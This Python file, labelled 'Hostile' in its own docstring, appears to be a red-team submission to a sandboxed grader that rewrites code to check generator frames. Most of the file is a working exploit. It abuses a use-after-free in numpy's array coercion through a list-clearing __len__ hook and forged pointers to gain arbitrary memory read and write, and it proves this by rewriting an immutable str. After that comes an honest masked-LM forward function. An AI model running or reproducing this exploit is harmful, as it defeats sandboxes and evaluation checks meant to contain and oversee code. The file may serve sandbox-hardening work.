"""Hostile: a generator expression's check of who resumed it (rewrite.py puts it first in each
clause's conditions) runs only once its for loop has its next item; getting that item resumes the
generator it iterates, whose own check stops at the nearest frame of the file's code below it: the
generator expression's. numpy.array(items) walks a pointer to the list's item block
(array_coercion.c) and asks each item its length: the trigger's __len__ is
functools.partial(next, (x for x in inner()), 0), so numpy resumes the generator expression, which
resumes inner(); inner empties the list under numpy, hands the freed block to a bytes object of the
file's and returns, so the generator expression ends without reaching its check. numpy reads
pointers of the file's choosing; each is a fake object whose class's __len__ is
functools.partialmethod(found.append): library Python code that keeps the fake, whose __slots__ field
hands out any address as an object: a fake int64 ndarray over a real array's header. Writing that
header's data pointer reads and writes any address in the child. The file proves it by reading an
int's header and rewriting the contents of an immutable str, then answers honestly."""

import functools
import math

import numpy as np
import torch


def words(*values):
    return b"".join(int(v).to_bytes(8, "little") for v in values)


def inner():
    yield 0
    items.clear()  # numpy still walks the item block this frees
    for k in range(len(sprayed)):
        sprayed[k] = pointers.to_bytes(767, "little")  # the freed block, now bytes of the file's


found = []


class Fake:
    __slots__ = ("x",)
    __len__ = functools.partialmethod(found.append)  # library Python code hands numpy's object to a list

    def __getitem__(self, i):
        raise IndexError(i)


resumer = (x for x in inner())
next(resumer)  # started from the file's own code


class EmptiesTheList:
    __len__ = functools.partial(next, resumer, 0)  # numpy resumes the generator expression

    def __getitem__(self, i):
        raise IndexError(i)


victim = np.zeros(64, dtype=np.uint8)  # a real array, whose header the fake array covers
FLAGS = 0x1 | 0x2 | 0x100 | 0x400  # C and F contiguous, aligned, writeable
shape = words(12, 8)
fake_array = words(1 << 40, id(np.ndarray), id(victim), 1, id(shape) + 32, id(shape) + 40, 0, id(np.dtype(np.int64)), FLAGS, 0, 0, 0)
fake = words(0, 0, 1 << 40, id(Fake), id(fake_array) + 32)  # a zero GC header, then a Fake whose x is the array
fake_at = id(fake) + 32 + 16
pointers = int.from_bytes(words(*[fake_at] * 96)[:767], "little")  # 33 + 767 bytes: the 800 of 100 items
sprayed = [None] * 8
trigger = EmptiesTheList()
items = [1.0, 2.0, 3.0, trigger] + [0.0] * 96
try:
    np.array(items, dtype=np.float64)
except (ValueError, RuntimeError, TypeError):  # the list changed under numpy
    pass
header = found[0].x  # victim's header as int64 words: [2] is its data pointer
own_data = int(header[2])


def read(at, n):
    header[2] = at
    data = bytes(victim[:n].tolist())
    header[2] = own_data
    return data


def write(at, data):
    header[2] = at
    victim[: len(data)] = np.array(list(data), dtype=np.uint8)
    header[2] = own_data


number = 12345678901234567
assert int.from_bytes(read(id(number) + 8, 8), "little") == id(int)  # ob_type read from the heap
word = "immutable"
write(id(word) + 48, b"IMMUTABLE")  # an immutable str rewritten in place
assert word == "IMMUTABLE", word
print("raw memory: read the heap and rewrote an immutable str")


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    e = torch.exp(scores - scores.amax(dim=-1, keepdim=True))
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    dh = d // num_heads
    q, k, v = ((x @ w).view(n, t, num_heads, dh).transpose(1, 2) for w in (w_q, w_k, w_v))
    out = softmax(q @ k.transpose(-2, -1) / math.sqrt(dh)) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    return x[mask_indicator > 0.5] @ w_emb.T
